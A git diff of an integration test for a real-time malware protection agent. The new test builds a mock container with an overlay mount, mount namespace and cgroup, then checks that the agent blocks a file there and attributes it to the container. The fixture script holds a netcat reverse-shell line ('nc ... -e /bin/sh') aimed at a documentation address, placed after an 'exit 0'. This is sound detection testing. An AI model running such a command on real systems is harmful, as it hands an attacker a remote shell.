@@ -1,4 +1,5 @@
 import { execFile, execFileSync } from 'node:child_process'
+import { randomBytes } from 'node:crypto'
 import {
   chmodSync,
   copyFileSync,
@@ -8,6 +9,7 @@ import {
   readdirSync,
   readFileSync,
   realpathSync,
+  rmdirSync,
   rmSync,
   writeFileSync,
 } from 'node:fs'
@@ -19,6 +21,24 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { canMount, createSite, eicar, type Json, type Site, waitFor } from './harness.ts'
 
 const runs = promisify(execFile)
+const image = join(import.meta.dirname, '../../packages/kernel/src/testdata/image.c')
+/** A tree of cgroups: the one of version 2, or one of those of version 1. */
+const cgroups =
+  ['', '/unified', '/systemd', '/freezer']
+    .map((name) => `/sys/fs/cgroup${name}`)
+    .find((path) => existsSync(join(path, 'cgroup.procs'))) ?? '/nowhere'
+
+/** Whether processes can be put into a cgroup of their own. */
+function canMakeCgroups(): boolean {
+  const probe = join(cgroups, `ringwall-probe-${process.pid}`)
+  try {
+    mkdirSync(probe)
+    rmdirSync(probe)
+    return true
+  } catch {
+    return false
+  }
+}
 const isPossible = canMount()
 if (!isPossible) process.stderr.write('realtime.test: skipped, this account may not mount\n')
 
@@ -26,6 +46,8 @@ let site: Site
 let machineId: string
 /** A file system of its own: what the agent guards there holds nothing else on this machine. */
 let guarded: string
+/** That, and where a container comes and goes. */
+const watched = () => `${guarded}:${join(guarded, 'container/root')}`
 
 /** Bad by the rule reverse_shell_netcat_exec; leaves a mark when it runs, and nothing else (RFC 5737 address). */
 const script = (marker: string) =>
@@ -82,7 +104,7 @@ describe.skipIf(!isPossible)('real-time protection', () => {
     execFileSync('mount', ['-t', 'tmpfs', 'tmpfs', guarded])
     site = await createSite()
     await site.startScanner()
-    machineId = await site.startAgent('agent', { RINGWALL_AGENT_WATCH: guarded })
+    machineId = await site.startAgent('agent', { RINGWALL_AGENT_WATCH: watched() })
     await setPolicy({ budgetMs: 30_000 })
     await isGuarded()
   })
@@ -111,6 +133,51 @@ describe.skipIf(!isPossible)('real-time protection', () => {
     const { processes } = finding.realtime as { processes: Json[] }
     expect(processes[0]).toMatchObject({ uid: 0, container: null })
     expect(processes.some(({ pid }) => pid === process.pid)).toBe(true)
+  })
+
+  it.skipIf(!canMakeCgroups())('tells which container wanted it, and finds the file here', async () => {
+    const id = randomBytes(32).toString('hex')
+    // What a container has: a root of its own on an overlay, its own mount namespace, a cgroup with its id.
+    const names = ['lower', 'upper', 'work', 'root'] as const
+    const [lower, upper, workdir, root] = names.map((name) => join(guarded, 'container', name)) as [
+      string,
+      string,
+      string,
+      string,
+    ]
+    for (const folder of [lower, upper, workdir, root]) mkdirSync(folder, { recursive: true })
+    writeFileSync(join(lower, 'bad.sh'), '#!/shell\nexit 0\nnc 192.0.2.1 4444 -e /bin/sh\n', { mode: 0o755 })
+    execFileSync('gcc', ['-Os', '-static', '-nostdlib', '-o', join(lower, 'shell'), image])
+    const layers = `lowerdir=${lower},upperdir=${upper},workdir=${workdir}`
+    execFileSync('mount', ['-t', 'overlay', 'overlay', '-o', layers, root])
+    const cgroup = join(cgroups, `docker-${id}.scope`)
+    mkdirSync(cgroup)
+    try {
+      const enter = 'echo $$ > "$1/cgroup.procs" && exec unshare --mount chroot "$2" /bad.sh'
+      await waitFor('the container to be held', async () =>
+        (
+          await runs('sh', ['-c', enter, 'sh', cgroup, root]).then(
+            () => '',
+            (error: { stderr: string }) => error.stderr,
+          )
+        ).includes('not permitted')
+          ? true
+          : undefined,
+      )
+      const path = join(root, 'bad.sh')
+      const found = await waitFor('the finding', async () =>
+        (await site.list('/findings')).find((finding) => finding.path === path),
+      )
+      const { finding } = await site.get<{ finding: Json }>(`/findings/${String(found.id)}`)
+      const { processes } = finding.realtime as { processes: Json[] }
+      expect(processes[0]).toMatchObject({ container: id })
+    } finally {
+      execFileSync('umount', ['-l', root])
+      await waitFor('the cgroup to be empty', async () => {
+        rmdirSync(cgroup)
+        return true
+      })
+    }
   })
 
   it('lets good programs run, and knows them from then on', async () => {
@@ -191,7 +258,7 @@ describe.skipIf(!isPossible)('real-time protection', () => {
     const path = join(guarded, 'killed')
     copyFileSync('/bin/true', path)
     expect(await exec(path)).toBe('ran')
-    await site.start('agent', 'agent', { RINGWALL_AGENT_WATCH: guarded })
+    await site.start('agent', 'agent', { RINGWALL_AGENT_WATCH: watched() })
     await setPolicy({ budgetMs: 30_000 })
     await isGuarded()
   })
